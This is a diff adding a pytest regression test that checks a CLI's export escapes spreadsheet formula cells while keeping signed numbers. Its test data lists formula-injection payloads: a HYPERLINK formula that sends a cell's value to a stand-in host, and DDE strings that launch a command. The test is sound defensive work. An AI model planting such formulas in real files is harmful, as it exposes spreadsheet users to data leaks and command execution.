@@ -188,3 +188,32 @@ def test_an_unsure_guess_is_flagged_in_inspect(cli, home, tmp_path):
     out = result.json
     assert out["encoding_confidence"] < 0.8
     assert any(f"encoding was guessed as {out['encoding']} with confidence" in p and "save the file as UTF-8" in p for p in out["problems"])
+
+
+# ---- finding 8: formula cells in inspect --export -------------------------------------------------
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_inspect_export_protects_formula_cells_and_keeps_numbers(cli, home, tmp_path, penguins, fmt):
+    frame = penguins.head(9)[["species", "island", "bill_length_mm"]].astype(str).reset_index(drop=True)
+    attacks = ['=HYPERLINK("http://example.invalid/?"&A1,"details")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1", "-5.5", "plain text", "\r=1+1" if fmt == "json" else "\t@A1"]
+    frame["note"] = attacks
+    frame["delta"] = ["-3.25", "+4", "-1e3", "12", "-0.5", ".5", "-7", "0", "+.25"]
+    source = tmp_path / f"notes.{fmt}"
+    if fmt == "csv":
+        frame.to_csv(source, index=False)
+    else:
+        frame.to_json(source, orient="records")
+    before = source.read_bytes()
+    result = cli("inspect", source, "--export", tmp_path / "parsed.csv")
+    assert result.code == 0, result.err
+    exported = pd.read_csv(tmp_path / "parsed.csv", dtype=str, keep_default_na=False)
+    assert len(exported) == len(frame)
+    for written, original in zip(exported["note"], attacks):
+        if original in ("-5.5", "plain text"):
+            assert written == original  # a negative number is a number, not a formula
+        else:
+            assert written == "'" + original, (written, original)
+    assert exported["delta"].tolist() == frame["delta"].tolist()
+    assert exported["species"].tolist() == frame["species"].tolist()
+    assert source.read_bytes() == before
